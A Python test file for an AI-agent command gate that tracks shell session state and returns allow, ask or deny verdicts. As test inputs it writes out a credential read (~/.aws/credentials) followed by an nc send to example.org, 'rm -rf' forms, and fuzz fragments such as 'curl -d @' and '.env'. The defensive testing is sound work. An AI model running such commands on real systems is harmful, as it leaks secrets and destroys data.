"""Session state: what it remembers, how it scopes, and how it fails closed at its bounds."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tokenomy.autonomy.gate import Gate, GateContext
from tokenomy.autonomy.schedule import Schedule
from tokenomy.autonomy.session_scan import expand_vars, segments
from tokenomy.autonomy.session_state import SessionState, StateLimits
from tokenomy.autonomy.verdict import Call
from tokenomy.interfaces.loaders.agent_data import load_schedule

SANDBOX = GateContext(session_id="s", sandboxed=True)


@pytest.fixture(scope="module")
def schedule() -> Schedule:
    return load_schedule()


def test_segments_respect_quotes_subshells_groups_and_heredocs() -> None:
    segs = segments("echo 'a;b' && (cd /; ls) | wc; f() { rm x; }\ncat > s <<'EOF'\na; b\nEOF\nls")
    assert [s.text for s in segs] == [
        "echo 'a;b'",
        "(cd /; ls) | wc",
        "f() { rm x; }",
        "cat > s <<'EOF'\na; b\nEOF",
        "ls",
    ]
    assert [s.subshell for s in segs] == [False, True, False, False, False]


def test_variables_expand_outside_single_quotes_only() -> None:
    known = {"X": "/"}.get
    assert expand_vars("rm -rf $X \"${X}\" '$X' $Y", known) == "rm -rf / \"/\" '$X' $Y"


def test_the_working_directory_follows_cd_pushd_popd_and_cd_dash(schedule: Schedule) -> None:
    st = SessionState()
    for cmd in ("cd /tmp", "cd sub", "pushd /etc", "cd ..", "popd", "cd -"):
        st.step(Call("bash", {"command": cmd}), schedule)
    assert st.cwd == "/"  # cd - returns to where popd left from: /etc/.. = /
    st.step(Call("bash", {"command": "(cd /usr; ls) | wc"}), schedule)
    assert st.cwd == "/"


def test_a_subshell_does_not_change_the_session(schedule: Schedule) -> None:
    gate = Gate(schedule)
    gate.check("(cd /; X=/)", SANDBOX)
    assert gate.check("rm -rf build", SANDBOX).decision == "allow"
    assert gate.check("rm -rf $X", SANDBOX).decision == "ask"  # X unknown: a path computed at run time


def test_sessions_do_not_share_state(schedule: Schedule) -> None:
    gate = Gate(schedule)
    gate.check("cd /", GateContext(session_id="a", sandboxed=True))
    assert gate.check("rm -rf x", GateContext(session_id="b", sandboxed=True)).decision == "allow"
    assert gate.check("rm -rf x", GateContext(session_id="a", sandboxed=True)).decision == "deny"


def test_a_secret_read_then_a_network_send_is_denied_and_cannot_be_approved(schedule: Schedule) -> None:
    gate = Gate(schedule)
    ctx = GateContext(session_id="s")
    assert gate.check("nc example.org 80 < notes.txt", ctx).decision == "ask"
    assert gate.check("cat ~/.aws/credentials", ctx).decision == "ask"
    v = gate.check("nc example.org 80 < notes.txt", ctx)
    assert v.decision == "deny" and "secret data flow" in v.reason


def test_ending_a_session_forgets_its_state(schedule: Schedule) -> None:
    gate = Gate(schedule)
    with gate.session("s", sandboxed=True) as s:
        s.check("cd /")
        assert s.check("rm -rf x").decision == "deny"
    with gate.session("s", sandboxed=True) as s:
        assert s.check("rm -rf x").decision == "allow"


def test_require_with_an_approver_applies_the_call_to_the_state_once(schedule: Schedule) -> None:
    gate = Gate(schedule)
    ctx = GateContext(session_id="s")
    gate.require("cd ..", ctx)
    gate.require("pytest -q", ctx, approver=lambda v: ["me"])
    assert gate.state("s").cwd == ".."


def test_a_script_too_big_to_remember_runs_as_unknown(schedule: Schedule) -> None:
    gate = Gate(schedule, state_limits=StateLimits(max_file_chars=100))
    gate.check({"name": "Write", "arguments": {"file_path": "s.sh", "content": "echo hi\n" * 50}}, SANDBOX)
    assert gate.check("bash s.sh", SANDBOX).action_class == "unknown"


def test_evicted_files_make_untracked_scripts_unknown(schedule: Schedule) -> None:
    gate = Gate(schedule, state_limits=StateLimits(max_files=2))
    assert gate.check("bash pre_existing.sh", SANDBOX).decision == "allow"
    for i in range(3):
        gate.check(f"echo 'echo {i}' > f{i}.sh", SANDBOX)
    assert gate.check("bash f0.sh", SANDBOX).decision == "ask"  # evicted: may hold anything
    assert gate.check("bash f2.sh", SANDBOX).decision == "allow"  # still tracked, harmless


def test_overflowing_aliases_fails_closed_for_every_command(schedule: Schedule) -> None:
    gate = Gate(schedule, state_limits=StateLimits(max_names=2))
    for i in range(3):
        gate.check(f"alias a{i}='ls'", SANDBOX)
    assert gate.check("ls", SANDBOX).decision == "ask"


def test_an_evicted_session_that_returns_is_judged_with_an_unknown_past(schedule: Schedule) -> None:
    gate = Gate(schedule, max_sessions=1)
    gate.check("echo 'echo hi' > s.sh", GateContext(session_id="a", sandboxed=True))
    gate.check("ls", GateContext(session_id="b", sandboxed=True))
    assert gate.state("a").lost
    assert gate.check("bash other.sh", GateContext(session_id="a", sandboxed=True)).decision == "ask"


def test_variable_table_overflow_keeps_the_newest(schedule: Schedule) -> None:
    st = SessionState(StateLimits(max_vars=3))
    for i in range(5):
        st.step(Call("bash", {"command": f"V{i}=x{i}"}), schedule)
    assert list(st.vars) == ["V2", "V3", "V4"] and "vars" in st.evicted


def test_the_state_can_be_switched_off(schedule: Schedule) -> None:
    gate = Gate(schedule, session_state=False)
    gate.check("cd /", SANDBOX)
    assert gate.check("rm -rf x", SANDBOX).decision == "allow"


def test_invalid_max_sessions_is_rejected(schedule: Schedule) -> None:
    from tokenomy.core.errors import ValidationError

    with pytest.raises(ValidationError, match="max_sessions"):
        Gate(schedule, max_sessions=0)


def test_a_git_alias_set_in_the_session_is_read_as_its_expansion(schedule: Schedule) -> None:
    gate = Gate(schedule)
    gate.check("git config alias.st status", SANDBOX)
    v = gate.check("git st", SANDBOX)
    assert v.decision == "allow" and v.classification.parts[-1][0] == "git status"
    gate.check("git config --unset alias.st", SANDBOX)
    assert gate.check("git st", SANDBOX).action_class == "unknown"  # no longer known: fail closed


_PIECES = [
    "cd ", "/", "..", "~", "X=", "$X", "${X}", "alias a=", "a ", "f() { ", "}", "; ", " && ", " | ", "(", ")",
    "'", '"', "`", "$(", "echo ", "rm -rf ", "bash ", "s.sh", " > ", " >> ", " < ", "<<EOF\n", "\nEOF\n",
    "python3 ", "-c ", "git config alias.x ", "git x", "cp ", "mv ", "tee ", "curl -d @", "cat ", ".env",
    "export ", "\\", "\n", "pushd ", "popd", "source ", "./", "sed -i s/a/b/ ", "wget ", "dd of=",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join), min_size=1, max_size=6))
def test_any_sequence_of_commands_gets_a_verdict_never_an_exception(commands: list[str]) -> None:
    gate = Gate(load_schedule(), state_limits=StateLimits(max_vars=3, max_names=2, max_files=2))
    for i, c in enumerate(commands):
        v = gate.check(c, GateContext(session_id=f"s{i % 2}", sandboxed=True))
        assert v.decision in ("allow", "ask", "deny")
